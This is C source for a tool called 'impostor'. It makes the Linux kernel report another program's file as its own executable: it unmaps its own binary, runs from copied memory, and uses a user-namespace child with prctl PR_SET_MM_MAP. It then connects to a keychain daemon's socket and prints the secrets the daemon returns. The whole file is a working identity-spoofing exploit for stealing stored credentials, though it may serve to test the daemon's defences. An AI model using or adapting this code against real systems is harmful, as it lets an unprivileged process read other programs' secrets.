// A process that has the kernel say that it runs another program's file, and then calls the keychain.
// SPDX-License-Identifier: Apache-2.0
// usage: impostor PROGRAM SOCKET HEX [LIBRARY]
//
// It calls as PROGRAM, with LIBRARY mapped as a program that was started well has it.
// What is left of it once it has taken its own file out of its memory is a piece of code in memory without a file.
#define _GNU_SOURCE
#include <fcntl.h>
#include <linux/prctl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

enum { mostParts = 16, pages = 1 << 16 };

struct plan {
    struct { unsigned long begin, size; } parts[mostParts];
    int partCount, requestSize;
    struct prctl_mm_map map;
    struct sockaddr_un address;
    unsigned char greeting[16], request[1 << 14], answer[1 << 14];
    char digits[1 << 15];
};

static inline __attribute__((always_inline)) long call(long number, long a, long b, long c, long d, long e) {
    long result;
    register long fourth __asm__("r10") = d, fifth __asm__("r8") = e;
    __asm__ volatile("syscall" : "=a"(result) : "a"(number), "D"(a), "S"(b), "d"(c), "r"(fourth), "r"(fifth) : "rcx", "r11", "memory");
    return result;
}

static inline __attribute__((always_inline)) int take(int socket, unsigned char *bytes, long count) {
    for (long done = 0; done < count;) {
        long part = call(SYS_read, socket, (long)(bytes + done), count - done, 0, 0);
        if (part <= 0) return 0;
        done += part;
    }
    return 1;
}

/// Runs where it was copied to: it calls nothing, and knows nothing but the plan.
__attribute__((section("moved"), noreturn, optimize("no-tree-loop-distribute-patterns"))) static void after(struct plan *plan) {
    for (int part = 0; part < plan->partCount; part++) call(SYS_munmap, (long)plan->parts[part].begin, (long)plan->parts[part].size, 0, 0, 0);
    // The child is root of a namespace, and shares the memory: what it changes there is its parent's.
    long child = call(SYS_clone, CLONE_VM | CLONE_VFORK | CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0);
    if (child == 0) call(SYS_exit, call(SYS_prctl, PR_SET_MM, PR_SET_MM_MAP, (long)&plan->map, sizeof plan->map, 0) != 0, 0, 0, 0, 0);
    int status = 1;
    if (child < 0 || call(SYS_wait4, child, (long)&status, 0, 0, 0) != child || status != 0) call(SYS_exit_group, 3, 0, 0, 0, 0);
    int socket = -1;
    unsigned char *answer = plan->answer;
    // The daemon ends the first connection of a program.
    for (int left = 4; left > 0; left--) {
        socket = (int)call(SYS_socket, AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, 0, 0);
        if (call(SYS_connect, socket, (long)&plan->address, sizeof plan->address, 0, 0) != 0) call(SYS_exit_group, 4, 0, 0, 0, 0);
        if (call(SYS_sendto, socket, (long)plan->greeting, 16, MSG_NOSIGNAL, 0) == 16 && take(socket, answer, 16)) break;
        call(SYS_close, socket, 0, 0, 0, 0);
    }
    if (call(SYS_write, socket, (long)plan->request, plan->requestSize, 0, 0) != plan->requestSize || !take(socket, answer, 12))
        call(SYS_exit_group, 4, 0, 0, 0, 0);
    long size = (long)answer[2] << 8 | answer[3], at = 0;
    plan->digits[at++] = (char)('0' + answer[8]);
    plan->digits[at++] = ' ';
    if (size > (1 << 14) || !take(socket, answer, size)) call(SYS_exit_group, 5, 0, 0, 0, 0);
    for (long byte = 0; byte < size; byte++) {
        int high = answer[byte] >> 4, low = answer[byte] & 15;
        plan->digits[at++] = (char)(high < 10 ? '0' + high : 'a' + high - 10);
        plan->digits[at++] = (char)(low < 10 ? '0' + low : 'a' + low - 10);
    }
    plan->digits[at++] = '\n';
    call(SYS_write, 1, (long)plan->digits, at, 0, 0);
    call(SYS_exit_group, 0, 0, 0, 0, 0);
    __builtin_unreachable();
}

extern char __start_moved[], __stop_moved[];

int main(int count, char **words) {
    if (count < 4) return 2;
    struct plan *plan = mmap(NULL, sizeof *plan, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    char *code = mmap(NULL, pages, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0), own[4096], line[4096];
    int program = open(words[1], O_RDONLY | O_CLOEXEC);
    if (plan == MAP_FAILED || code == MAP_FAILED || program < 0) return 2;
    memcpy(code, __start_moved, (size_t)(__stop_moved - __start_moved));
    mprotect(code, pages, PROT_READ | PROT_EXEC);
    if (count > 4) {
        int library = open(words[4], O_RDONLY | O_CLOEXEC);
        if (library < 0 || mmap(NULL, 4096, PROT_READ | PROT_EXEC, MAP_PRIVATE, library, 0) == MAP_FAILED) return 2;
        close(library);
    }
    own[readlink("/proc/self/exe", own, sizeof own - 1)] = 0;
    FILE *maps = fopen("/proc/self/maps", "r");
    while (fgets(line, sizeof line, maps)) {
        unsigned long begin, end;
        if (strstr(line, own) && sscanf(line, "%lx-%lx", &begin, &end) == 2 && plan->partCount < mostParts) {
            plan->parts[plan->partCount].begin = begin;
            plan->parts[plan->partCount++].size = end - begin;
        }
    }
    // Any numbers will do: the kernel looks at their order.
    plan->map = (struct prctl_mm_map){0x10000, 0x11000, 0x12000, 0x13000, 0x14000, 0x14000, (unsigned long)&count,
                                      0x10000, 0x10000, 0x10000, 0x10000, NULL, 0, (unsigned)program};
    plan->address.sun_family = AF_UNIX;
    strncpy(plan->address.sun_path, words[2], sizeof plan->address.sun_path - 1);
    memcpy(plan->greeting, "latchkey\0\1\0\1\0\0\0\0", 16);
    while (sscanf(words[3] + 2 * plan->requestSize, "%2hhx", plan->request + plan->requestSize) == 1) plan->requestSize++;
    ((void (*)(struct plan *))(code + ((char *)after - __start_moved)))(plan);
    return 1;
}
